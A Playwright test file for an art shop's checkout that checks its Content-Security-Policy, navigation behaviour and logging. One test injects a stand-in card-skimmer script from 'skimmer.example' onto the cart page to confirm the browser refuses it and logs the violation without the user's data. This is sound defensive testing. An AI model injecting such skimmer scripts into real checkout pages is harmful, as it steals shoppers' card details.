// Rule 17.20
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { cardOf, findWork, putIntoCart } from '#test/support/journeys/artworks.ts';
import { payButton } from '#test/support/journeys/card-form.ts';
import { expect, testWithOwnShop } from '#test/support/journeys/journey.ts';
import { sellingShop } from '#test/support/journeys/own-shop.ts';
import { holdBack } from '#test/support/journeys/requests.ts';

const test = testWithOwnShop(sellingShop);

const bar = (page: Page) => page.getByRole('navigation', { name: 'Main' });
const cartLink = (page: Page) => bar(page).getByRole('link', { name: /^Cart/ });

/** Marks the document with a property of `window`, which a new document does not have. */
const mark = (page: Page) => page.evaluate(() => Object.assign(window, { isMarked: true }));
const isMarked = (page: Page) => page.evaluate(() => 'isMarked' in window);

/** Whether the policy allows a script from an origin. The response is a stub, so no request leaves the browser. */
async function mayLoad(page: Page, origin: string): Promise<boolean> {
  await page.route(`${origin}/nothing.js`, (route) =>
    route.fulfill({ body: '', contentType: 'text/javascript' }),
  );
  return page.evaluate(
    (src) =>
      new Promise<boolean>((resolve) => {
        const script = Object.assign(document.createElement('script'), {
          onload: () => resolve(true),
          onerror: () => resolve(false),
        });
        script.src = src;
        document.head.append(script);
      }),
    `${origin}/nothing.js`,
  );
}

const policyOf = async (page: Page, path: string) =>
  (await page.request.get(path)).headers()['content-security-policy'] ?? '';

/** Whether the document may turn a text into markup. If not, the browser reports a violation. */
const becomesMarkup = (page: Page) =>
  page.evaluate(() => {
    try {
      document.createElement('p').innerHTML = '<b>bold</b>';
      return true;
    } catch {
      return false;
    }
  });

test.describe('the hosts of the card form', () => {
  // Browsers log violations in the console.
  test.use({ provokesFailures: true });

  test('are allowed only in the cart’s document', {
    tag: '@desktop',
  }, async ({ page, baseURL, shop }) => {
    const work = await findWork(baseURL, 'Fish Weather', 'Fine Art Prints');
    await putIntoCart(page, work.id, work.variations[0]?.id ?? '');
    for (const path of [
      '/',
      '/gallery',
      `/artwork/${work.id}`,
      '/about',
      '/order-complete',
      '/admin',
      '/orderadmin',
      '/nowhere',
    ])
      expect(await policyOf(page, path), path).not.toContain(shop.simulatorUrl);
    for (const path of ['/cart', '/cart/'])
      expect(await policyOf(page, path), path).toContain(shop.simulatorUrl);

    await page.goto('/admin');
    await expect(page.getByLabel('Username')).toBeVisible();
    expect(await becomesMarkup(page)).toBe(false);
    await mark(page);
    await cartLink(page).click();
    await expect(page.getByRole('button', { name: 'Proceed to Checkout' })).toBeVisible();
    expect(await isMarked(page)).toBe(false);
    expect(await mayLoad(page, shop.simulatorUrl)).toBe(true);
    expect(await becomesMarkup(page)).toBe(true);

    await mark(page);
    await bar(page).getByRole('link', { name: 'Gallery' }).click();
    await expect(page.getByRole('heading', { name: 'Gallery', level: 1 })).toBeVisible();
    expect(await isMarked(page)).toBe(false);
    expect(await becomesMarkup(page)).toBe(false);

    await page.goBack();
    await page.getByRole('button', { name: 'Proceed to Checkout' }).click();
    await payButton(page);
    await page.goBack();
    await expect(page.getByRole('dialog')).toBeHidden();
    await mark(page);
    await page.goBack();
    await expect(page.getByLabel('Username')).toBeVisible();
    expect(await isMarked(page)).toBe(false);
  });
});

test.describe('a link to a new document', { tag: '@desktop' }, () => {
  test('waits until a running addition to the cart has ended', async ({ page }) => {
    await page.goto('/gallery');
    const add = cardOf(page, 'Fish Weather').first().getByRole('button', { name: 'Add to Cart' });
    const goOn = await holdBack(page, '**/api/cart');
    await add.click();
    await page.getByRole('article').nth(11).scrollIntoViewIfNeeded();
    await page.evaluate(() => window.scrollTo({ top: 900, behavior: 'instant' }));
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(800);
    const before = await page.evaluate(() => window.scrollY);
    await cartLink(page).click();
    await expect(page).toHaveURL(/\/cart$/);
    goOn();

    await expect(page.getByRole('button', { name: 'Proceed to Checkout' })).toBeVisible();
    await expect(page.getByRole('main').getByText('Fish Weather').first()).toBeVisible();

    await page.goBack();
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(before);
  });
});

test.describe('a script injected beside the card form', { tag: '@desktop' }, () => {
  test.use({
    provokesFailures: true,
    otherOrigins: ({ shop }, use) => use([shop.simulatorUrl, shop.bankUrl, 'https://skimmer.example']),
  });

  // Rule 17.21
  test('is refused by the browser and reported to the shop’s log', async ({ page, shop }) => {
    const log = () =>
      readFileSync(join(shop.dataDirectory, 'shop.log'), 'utf8')
        .split('\n')
        .filter((line) => line !== '')
        .map((line) => JSON.parse(line));
    const before = log().filter((line) => 'CheckoutScriptRefused' in line).length;
    await page.goto('/cart?utm=moss%40example.com');
    await page.evaluate(() => {
      document.head.append(
        Object.assign(document.createElement('script'), { src: 'https://skimmer.example/card.js?to=moss' }),
      );
    });

    const sample = () => log().find(({ blocked }) => blocked === 'skimmer.example');
    await expect.poll(sample).toMatchObject({ code: 'script-src-elem', path: '/cart', state: 'refused' });
    expect(JSON.stringify(sample())).not.toContain('moss');
    expect(log().filter((line) => 'CheckoutScriptRefused' in line).length).toBe(before);
  });
});
